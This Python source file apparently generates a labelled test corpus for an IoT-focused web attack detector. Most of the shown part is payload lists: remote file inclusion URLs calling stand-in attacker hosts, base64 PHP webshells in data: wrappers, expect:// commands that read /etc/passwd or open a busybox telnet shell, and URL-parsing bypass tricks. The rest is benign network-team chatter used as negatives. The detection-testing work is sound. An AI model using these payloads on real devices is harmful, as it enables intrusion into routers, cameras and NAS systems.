    "https://198.51.100.7:8443/cmd.txt",
    "http://198.51.100.7/config/cloud.js",
    "http://198.51.100.7/inc/header.inc",
    "http://198.51.100.7/lang/en.php",
]

# url-with-trailing-question-mark: the device appends ".php", ".htm" or ".inc"; the '?' turns it into a query
URL_QMARK: list[Entry] = [
    "http://attacker.example/shell.txt?",
    "http://198.51.100.7/c.txt?",
    "http://198.51.100.7/c.txt??",
    "https://attacker.example/inc.txt?x=",
    "http://attacker.example/s.txt?&",
    "http://attacker.example:8080/r57.txt?",
    "https://evil.example/payload.txt?.php",
    "http://evil.example/logo.gif?",
    "http://evil.example/x.jpg?lang=",
    "ftp://198.51.100.7/pub/s.txt?",
    "http://203.0.113.9/w.txt?dummy",
    "http://attacker.example/tpl/splash.txt?",
    "http://attacker.example/lang/en.txt?",
    "http://attacker.example/menu.txt?id=",
    "http://attacker.example/cmd.txt?cmd=id&",
    "https://attacker.example/k.txt?a=b?",
    "http://evil.example/shell.png?.htm",
    "http://evil.example/c99.txt?.inc",
    "//attacker.example/s.txt?",
    "http://attacker.example/s.txt%3f",
    "http://attacker.example/s.txt#",
    "http://attacker.example/portal/header.txt?",
    "https://raw.evil.example/x.txt?raw=1",
    "http://evil.example/upgrade.txt?v=",
    "http://198.51.100.7:8000/footer.txt?",
    "https://attacker.example/p.txt?&lang=en",
    "http://attacker.example/index.txt?page=",
    "http://attacker.example/cfg.txt?",
    "http://attacker.example/d.txt?file=",
    "http://attacker.example/x.txt?x",
]

INCLUDE_NAMES = ["page", "file", "template", "include", "path", "inc", "module", "content", "getpage", "lang"]

# include-parameter-with-url: the include field itself (page/file/template/include/path) carries the URL; whole
# request strings go raw, the device's own extra fields after the include
INCLUDE_URL: list[Entry] = [
    "http://attacker.example/shell.txt",
    "https://evil.example/inc/cmd.txt",
    "http://attacker.example/t/router.tpl",
    "http://attacker.example/pages/status.htm",
    "https://evil.example/r.php",
    "http://evil.example/module.txt",
    "http://attacker.example/content/main.txt",
    "http://attacker.example/lang/de.txt",
    "http://evil.example/wso.php",
    "https://attacker.example/payload.inc",
    "http://attacker.example/menu.php",
    "http://attacker.example/x",
    # Realtek/Sagem webproc: getpage is the page the CGI reads and runs its script tags from
    ("getpage=http://198.51.100.7/x.htm&var:language=en_us&var:page=*",) + RAWQ,
    ("getpage=http://attacker.example/evil.html&errorpage=html/main.html",) + RAWQ,
    # PHP portals on NAS and hotspot controllers
    ("page=http://attacker.example/shell.txt?&lang=en",) + RAWQ,
    ("file=http://198.51.100.7/c.txt&action=view",) + RAWF,
    ("template=http://attacker.example/t.tpl&preview=1",) + RAWF,
    ("include=https://evil.example/inc.php&module=status",) + RAWQ,
    ("path=http://attacker.example/&file=shell.txt",) + RAWF,
    ("inc=http://198.51.100.7/x.txt&menu=network",) + RAWQ,
    ("module=http://evil.example/m.txt&section=wan",) + RAWF,
    ("content=http://attacker.example/c.txt&sid=1a2b3c",) + RAWQ,
    ("lang=http://attacker.example/lang/en&submit=Apply",) + RAWF,
    ("page=//evil.example/x.txt",) + RAWQ,
    ("tpl=http://attacker.example/s.tpl&step=2",) + RAWF,
    ("skin=http://attacker.example/skin/&view=login",) + RAWQ,
    ("theme=http://198.51.100.7/theme.php&apply=1",) + RAWF,
    ("file=ftp://198.51.100.7/s.txt&op=show",) + RAWQ,
    ("page=https://203.0.113.9/p.txt&frame=main",) + RAWF,
    ("include_path=http://attacker.example/&page=index",) + RAWQ,
]

# off-domain-reference: references to a foreign domain where the device expects its own file or cloud
OFF_DOMAIN: list[Entry] = [
    # firmware update server overridden (router and camera "check for updates" endpoints)
    "http://update.evil.example/fw.bin",
    "https://firmware.attacker.example/latest/AX55.bin",
    "http://cdn.evil.example/ipc/digicap.dav",
    # smart-home hub: plugin and skill fetched from the given URL and loaded
    "https://evil.example/plugins/zwave.js",
    "https://attacker.example/hub/integration.py",
    # paste and raw-content hosts serving the shell
    "https://pastebin.com/raw/9bXKq2Lm",
    "https://raw.githubusercontent.com/attacker/tools/main/shell.php",
    "https://gist.githubusercontent.com/attacker/1a2b/raw/inc.txt",
    "http://transfer.sh/abcd/x.php",
    # protocol-relative and userinfo tricks past a "must start with our host" check
    "//evil.example/shell.txt",
    "///evil.example/inc.php",
    "http://cloud.vendor.example@evil.example/inc.php",
    "https://cloud.vendor.example.evil.example/portal.php",
    "http://evil.example\\@cloud.vendor.example/x.php",
    "http:\\\\evil.example\\s.php",
    # captive portal and cloud management templates
    "http://evil.example/portal.php",
    "https://cdn.evil.example/t.tpl",
    "https://evil.example/splash/login.html",
    "http://attacker.example/status.js",
    "http://tr069.evil.example:7547/acs",
    "https://acs.attacker.example/cwmp",
    "http://evil.example/shell.txt",
    "http://xn--80ak6aa92e.com/inc.txt",
    "http://evil.example./s.txt",
    "https://evil.example:443/c.php",
    "HTTP://EVIL.EXAMPLE/SHELL.TXT",
    "https://evil.example/%2e%2e/inc.php",
    "http://attacker.example/cgi-bin/dl.sh",
    "http://attacker.example/printer/driver.ppd",
    "https://attacker.example/nvr/plugin.exe",
]

# protocol-scheme: other schemes the include or fetch accepts (PHP wrappers, curl-based fetchers, Windows UNC)
PROTOCOLS: list[Entry] = [
    # FTP and TFTP (routers fetch firmware with curl or busybox)
    "ftp://198.51.100.7/pub/s.txt",
    "ftp://anonymous:x@198.51.100.7/shell.php",
    "ftp://attacker.example/inc.php",
    "ftps://attacker.example/c.txt",
    "tftp://198.51.100.7/fw.bin",
    "tftp://198.51.100.7/config.cfg",
    # SMB and UNC on the Windows NVR/HMI (PHP include of a UNC path works with allow_url_include off)
    "smb://198.51.100.7/share/shell.php",
    "smb://attacker.example/pub/inc.php",
    "\\\\198.51.100.7\\share\\shell.php",
    "\\\\attacker.example\\s\\inc.txt",
    "\\\\attacker.example@SSL\\DavWWWRoot\\s.php",
    "\\\\198.51.100.7@8080\\dav\\x.php",
    "file://198.51.100.7/share/inc.php",
    "//198.51.100.7/share/inc.php",
    # data: and PHP stream wrappers carrying the code itself
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+",
    "data://text/plain;base64,PD9waHAgcGFzc3RocnUoJ2lkJyk7Pz4=",
    "data:text/plain,<?php system('id');?>",
    "data:;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+",
    "data://text/plain,<?php passthru($_GET['c']);?>",
    "expect://id",
    "expect://ls",
    "expect://cat /etc/passwd",
    "expect://busybox telnetd -l /bin/sh -p 2323",
    # curl-based fetchers on routers (gopher, dict, sftp) and PHP ssh2 wrapper
    "gopher://198.51.100.7:70/_x",
    "dict://198.51.100.7:11211/stats",
    "sftp://198.51.100.7/home/x/s.php",
    "ssh2.sftp://user:pass@198.51.100.7/tmp/s.php",
    # Java-based controllers (UniFi-like management apps) open the URL with java.net.URL
    "jar:http://198.51.100.7/x.jar!/",
    "netdoc:///etc/passwd",
    "ldap://198.51.100.7/o=x",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("rce", "unix-command-injection", UNIX_CMD),
    ("rce", "unix-shell-evasion", SHELL_EVASION),
    ("rce", "windows-cmd-injection", WIN_CMD),
    ("rce", "powershell", POWERSHELL),
    ("rce", "unix-command-with-path", UNIX_PATH),
    ("rce", "reverse-shell", REVERSE),
    ("rce", "shellshock", SHELLSHOCK),
    ("rce", "downloader", DOWNLOADER),
    ("rce", "shell-file-write", FILE_WRITE),
    ("rce", "restricted-file-in-command", RESTRICTED_CMD),
    ("lfi", "path-traversal", TRAVERSAL),
    ("lfi", "os-file-access", OS_FILES),
    ("lfi", "absolute-path", ABSOLUTE),
    ("lfi", "null-byte-truncation", NUL_BYTE),
    ("lfi", "php-wrapper-lfi", PHP_WRAPPER),
    ("lfi", "log-poisoning-target", LOG_POISON),
    ("lfi", "restricted-file-extension", RESTRICTED_EXT),
    ("rfi", "url-with-ip-address", URL_IP),
    ("rfi", "url-with-trailing-question-mark", URL_QMARK),
    ("rfi", "include-parameter-with-url", INCLUDE_URL),
    ("rfi", "off-domain-reference", OFF_DOMAIN),
    ("rfi", "protocol-scheme", PROTOCOLS),
]
# whole include requests written as `name=value`, sent unquoted
RAW_KV_SUBS = {"include-parameter-with-url"}

# the devices' own field names, per category
NAMES: dict[str, Sequence[str]] = {
    "rce": ["ping_addr", "ipaddr", "host", "target", "ntp_server", "cmd", "lan_ip", "dns1", "devname",
            "traceroute_host"],
    "lfi": ["getpage", "page", "file", "lang", "path", "template", "download", "log", "filename", "item"],
    "rfi": ["url", "firmware_url", "config_url", "acs_url", "logo", "src", "server", "update_url", "remote",
            "source"],
}
HEADERS_REAL = ("header:User-Agent", "header:Referer", "header:X-Api-Version")
HEADERS_RS = ("rs-header:User-Agent", "rs-header:Referer", "rs-header:X-Test-Header")


# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    raw_subs = RAW_KV_SUBS
    raw_places = ("query", "form", "param-name", "rs-query", "rs-form", "rs-param-name", "rs-raw-body")
    unique = True
    xml_controls = "\n\t"

    def cycles(self, category: str, sub: str, payload: str) -> Cycles:
        if sub == "shellshock":   # a CGI sees only the headers as HTTP_* variables
            return HEADERS_REAL, HEADERS_RS
        return self.real_cycle, self.rs_cycle

    def name(self, category: str, sub: str, k: int) -> str:
        names = INCLUDE_NAMES if sub == "include-parameter-with-url" else NAMES[category]
        return names[k % len(names)]

    def rs_name(self, category: str, sub: str, k: int) -> str:
        if sub == "include-parameter-with-url":   # the suite names the include parameter too
            return INCLUDE_NAMES[k % len(INCLUDE_NAMES)]
        return self.rs_names[k % len(self.rs_names)]


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently (network and facilities engineers in Slack about router, camera and NAS
# rollouts, pasted CLI output, bios, searches by site and device, vendor links, LED codes, config and firmware files)
CHAT = [
    # rollouts and firmware
    "rolling firmware 1.0.8 build 20240315 to the Archer AX55s in Leeds tonight, 22:00-23:00, expect Wi-Fi blips",
    "Hikvision NVRs at the warehouse are on V4.62.210 now, cameras next week",
    "Synology DSM 7.2.1 update on nas01 done, volume scrub starts Sunday 02:00",
    "the UniFi controller is on 8.1.113, adopt the new APs with set-inform http://10.0.1.5:8080/inform",
    "OpenWrt 23.05.3 sysupgrade went fine on the lab router, kept settings with -c",
    "MikroTik RouterOS 7.14 on the branch routers, remember to export the config first",
    "the Fortigate at site B needs 7.2.8 before the end of the month, ticket is NET-1142",
    "firmware image for the printers is in the share, file name ends in .bin, don't rename it",
    "QNAP asked us to update QTS because of the advisory, scheduled for Thursday",
    "the PLC gateway firmware is vendor-signed, we can't flash it ourselves",
    # IP plans, VLANs, port forwards
    "camera VLAN is 40, the NVR sits on 10.40.0.10, gateway 10.40.0.1",
    "IP plan for the new floor: 10.30.0.0/24 users, 10.31.0.0/24 printers, 10.40.0.0/24 cameras",
    "removed the old port forward 8443 -> 10.40.0.10:443, nobody should reach the NVR from outside",
    "DHCP reservations for the HMIs are 10.50.0.21 to .29, please don't hand those out",
    "guest Wi-Fi is VLAN 99 and isolated, clients can't see each other",
    "we moved the NAS to the management VLAN, SMB only from 10.10.0.0/16",
    "UPnP is off on every router now, the console team will have to live with strict NAT",
    "TR-069 is disabled on the ISP routers we own, the ACS URL field is empty",
    "the DNS servers on the branch routers are 10.0.0.53 and 10.0.1.53",
    "NTP on all cameras points at 10.0.0.123, the clocks were drifting",
    # pasted CLI output
    "ping 10.20.0.1 from the core switch: 5 packets transmitted, 5 received, 0% packet loss",
    "64 bytes from 10.40.0.10: icmp_seq=1 ttl=63 time=0.412 ms, so the NVR is up",
    "traceroute to 8.8.8.8 dies at hop 4, 62.1.2.3, looks like the ISP edge",
    "nslookup nas01.corp.example returns 10.0.5.20 now, the old record is gone",
    "show ip int brief | include up  -> only Gi0/1 and Vlan40 are up on sw-lobby",
    "show vlan brief says VLAN 40 has ports Gi1/0/1-12 on the camera switch",
    "on the OpenWrt box, cat /etc/config/network shows the lan bridge on br-lan with 192.168.8.1",
    "logread | grep dnsmasq shows the leases coming through fine",
    "the syslog from the router says 'WAN link down' every night at 03:10, the ISP does maintenance",
    "mtr to the branch shows 2% loss on hop 6 only, that's ICMP rate limiting",
    "arp -a on the HMI shows the PLC at 10.50.0.10, so layer 2 is fine",
    "iperf3 between the floors gave 940 Mbits/sec, the uplink is fine",
    "tcpdump -i br-lan port 554 shows the RTSP stream from the camera to the NVR",
    "the ping page on the router UI says 'Request timed out' for the printer, it's asleep",
    "ipconfig /all on the kiosk shows DHCP from the wrong scope",
    "Test-Connection 10.40.0.10 -Count 4 from the jump host works, so it's not the firewall",
    # errors and LED codes
    "printer on floor 3 shows E-05 and an orange LED, paper jam in tray 2",
    "the AP LED is blinking white, it never got adopted",
    "NAS beeps and the status LED is orange, disk 3 degraded",
    "the switch PoE LED is amber on port 7, the camera draws too much",
    "UPS says 'On Battery' in the web UI since the power cut at 14:02",
    "the router shows 'Internet LED red', PPPoE auth failed, the ISP changed the password",
    "camera web page says 'Invalid user name or password' after the reset, default login is on the label",
    "HMI on line 2 shows 'Communication error with PLC 1', the cable was loose",
    "the NVR says 'HDD error' on slot 2, replacing it tomorrow",
    "Error 0x80070005 when the kiosk tried to map the share, permissions issue",
    # backups and configs
    "config backup saved as backup-2024-06-11.cfg in the team drive",
    "exported the RouterOS config with /export file=branch-b, it's in the share",
    "copy running-config tftp://10.0.0.5/sw-core.cfg done before the change",
    "the restore page on the Netgear wants the .cfg file, not the .bin",
    "nas01 Hyper Backup runs nightly to the offsite box, last run OK",
    "keep the old firmware .bin around in case we need to roll back",
    "the UPS settings export is an .ini file, I checked it into the config repo",
    "please don't email the router backups, they include the Wi-Fi passwords",
    "backups of the camera configs are in \\\\files01\\netops\\cameras\\2024",
    "the HMI project backup is hmi-line2.zip, about 40 MB",
    # scripts and automation
    "the nightly script runs `ping -c 3` against every camera and posts the failures here",
    "wrote a small Ansible play that pushes the NTP and syslog settings to the routers",
    "the Python script uses requests to pull the NAS health page every 5 minutes",
    "our Grafana board scrapes SNMP from the switches, the camera VLAN graph is on the second row",
    "reverse proxy for the camera UI is on 10.0.0.80, don't expose the cameras directly",
    "bash one-liner to check firmware on all APs is in the wiki, look for 'ap-firmware-check'",
    "the cron job on the jump host backs up the switch configs at 01:00",
    "PowerShell script to reboot the kiosks is in the repo under scripts/kiosk-reboot.ps1",
    # security chatter
    "the pentest found telnet open on two cameras, disabled it and changed the passwords",
    "read the CISA advisory about the command injection in the router ping page, our model isn't affected",
    "Mirai-style scans on port 23 are all over the firewall logs again",
    "busybox on the cameras is ancient, the vendor says a new firmware is coming",
    "the shellshock-era NAS in the basement is finally being decommissioned",
    "default credentials audit: 4 printers still had admin/admin, fixed",
    "someone left the UPnP IGD on at the branch, the console opened ports by itself",
    # facilities
    "the comms room AC failed again, the switches were at 48C",
    "new cameras for the car park arrive Tuesday, PoE budget is fine",
    "badge readers on the second floor talk to the controller at 10.60.0.5",
    "the lift company needs a port forward for remote diagnostics, I said VPN only",
    "smart thermostats are on the IoT VLAN, the hub is at 10.70.0.2",
    # bios
    "Network engineer, CCNP. VLANs, BGP, and too many ping tests. Leeds office.",
    "Facilities tech. Cameras, badge readers, UPS and the comms room AC.",
    "OT engineer. PLCs, HMIs and the network that glues them together.",
    "Sysadmin for the branch offices: routers, NAS boxes and printers.",
    "Wi-Fi person. Site surveys, AP placement, firmware rollouts.",
    "Security engineer, IoT and embedded. Firmware teardown on weekends.",
    "Junior network admin, learning OpenWrt and MikroTik one config at a time.",
    "Physical security lead: NVRs, cameras and access control across 12 sites.",
]

SEARCHES = [
    "leeds network", "site b", "core-sw-01", "cam-lobby", "nas01", "fw-edge", "printer floor 3", "hmi line 2",
    "plc", "scada", "vlan 40", "ubiquiti", "mikrotik", "hikvision", "axis", "synology", "qnap", "openwrt",
    "tp-link", "netgear", "fortigate", "ups", "comms room", "badge readers", "ping", "firmware", "router",
    "camera", "nvr", "tr-069", "upnp", "busybox", "shell", "path", "backup", "config", "wget", "lighttpd",
    "goahead", "boa",
]

URLS = [
    "https://www.tp-link.com/us/support/download/archer-ax55/",
    "https://openwrt.org/docs/guide-user/installation/sysupgrade.cli",
    "https://openwrt.org/toh/start",
    "https://help.mikrotik.com/docs/display/ROS/NAT",
    "https://help.ui.com/hc/en-us/articles/204909754-UniFi-Network-Adoption",
    "https://www.synology.com/en-global/support/download/DS920+",
    "https://www.qnap.com/en/security-advisories",
    "https://kb.netgear.com/000059634/How-do-I-back-up-and-restore-the-configuration",
    "https://www.hikvision.com/en/support/download/firmware/",
    "https://www.axis.com/support/firmware",
    "https://docs.fortinet.com/document/fortigate/7.2.8/fortios-release-notes",
    "https://www.cisa.gov/news-events/ics-advisories",
    "https://www.busybox.net/downloads/BusyBox.html",
    "https://redmine.lighttpd.net/projects/lighttpd/wiki/Docs_ModCGI",
    "https://www.broadband-forum.org/technical/download/TR-069.pdf",
    "http://10.40.0.10/doc/page/login.asp",
    "https://10.0.1.5:8443/manage/default/devices",
    "https://grafana.corp.example/d/net-cams/camera-vlan?orgId=1&from=now-24h",
    "https://wiki.corp.example/netops/ip-plan#floor-3",
    "https://support.apc.com/s/article/How-to-reset-Network-Management-Card",
]

PROSE = [
    "firmware rollout plan for the Leeds routers",
    "camera VLAN 40 owners",
    "who has the NVR admin password",
    "port forward review 2024",
    "ping monitoring for cameras",
    "traceroute results to branch B",
    "UPS web card contacts",
    "NAS backup restore test",
    "printer LED codes list",
    "HMI line 2 support",
    "PLC gateway vendor contact",
    "OpenWrt lab router users",
    "MikroTik export config owners",
    "TR-069 disabled routers",
    "UPnP audit results",
    "busybox version inventory",
    "config backup (.cfg) owners",
    "firmware .bin archive access",
    "comms room access list",
    "badge reader controller admins",
    "IP plan 10.30.0.0/24",
    "nslookup results for nas01",
    "shellshock NAS decommission",
    "default credentials audit",
    "Wi-Fi survey team",
    "reverse proxy for camera UI",
    "cron backups of switch configs",
    "smart thermostat hub 10.70.0.2",
    "kiosk reboot script users",
    "network on-call this week",
]

PROFILES = [
    ("Priya Raman", "Network Ops, Wellington Place, Leeds"),
    ("Tomasz Nowak", "Facilities, Building B, Kraków"),
    ("Jens Hartmann", "OT Engineering, Werk 2, Wolfsburg"),
    ("Aoife Byrne", "Branch IT, Grafton St 3, Dublin"),
    ("Carlos Mendes", "Physical Security, Av. Paulista 1000, São Paulo"),
    ("Mei Lin", "Wi-Fi Team, Tech Park 2, Eindhoven"),
    ("Router Repair Co", "Unit 4, Trading Estate, Bristol"),
    ("Camera & NVR Services", "Harbour Rd 9, Plymouth"),
    ("Comms Room Cooling Ltd", "Industrial Way 12, Coventry"),
    ("Busy Box Removals", "Market Sq 4, Kraków"),
    ("Ping Pong Club", "Sports Hall, Lausanne"),
    ("Shell Garage Wolfsburg", "Berliner Ring 5, Wolfsburg"),
    ("Path Finder Surveys", "Queen St 21, Auckland"),
    ("Gateway Pharmacy", "Gateway Centre, Singapore"),
    ("Firmware Labs", "Canal 14, Amsterdam"),
]

UPLOAD_NAMES = [
    "backup-2024-06-11.cfg", "AX55v1_1.0.8_20240315.bin",
    "openwrt-23.05.3-ath79-generic-tplink_archer-c7-v5-squashfs-sysupgrade.bin", "DSM_DS920+_69057.pat",
    "router-config.bak", "nvr-export.old.zip", "site-ip-plan.xlsx", "ups-settings.ini",
    "core-sw-01_running-config.txt", "camera-positions.pdf", "firewall-rules-v3.csv", "hmi-line2.zip",
    "branch-b.rsc", "digicap.dav", "printer-fw-2.1.4.bin", "ping-results-2024-06-10.txt",
    "traceroute site B.png", "nas01 scrub report.pdf", "vlan40-cameras.xlsx", "fortigate-7.2.8-upgrade-plan.docx",
    "wifi-survey-floor3.pdf", "kiosk-reboot.ps1", "ap-firmware-check.sh", "comms-room-temps.csv",
    "led-codes-cheatsheet.pdf",
]

BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.5 Safari/605.1.15"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/126.0.0.0 Safari/537.36"),
    ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0"),
    ("User-Agent", "curl/8.7.1"),
    ("User-Agent", "python-requests/2.32.3"),
    ("User-Agent", "Ansible/2.16 (netops inventory)"),
    ("Referer", "https://10.0.1.5:8443/manage/default/devices"),
    ("Referer", "https://wiki.corp.example/netops/ip-plan#floor-3"),
    ("Referer", "https://openwrt.org/toh/start"),
    ("Referer", "https://www.google.com/search?q=openwrt+sysupgrade+keep+settings"),
    ("Referer", "https://grafana.corp.example/d/net-cams/camera-vlan?orgId=1"),
    ("Accept-Language", "en-GB,en;q=0.9,pl;q=0.7"),
    ("Cookie", "session=abc123; site=leeds; view=devices"),
    ("Cookie", "session=abc123; last_search=cam-lobby; tz=Europe%2FLondon"),
    ("X-Request-Id", "netops-7f3a9c1e-0b2d-4e5f-8a6b-1c2d3e4f5a6b"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
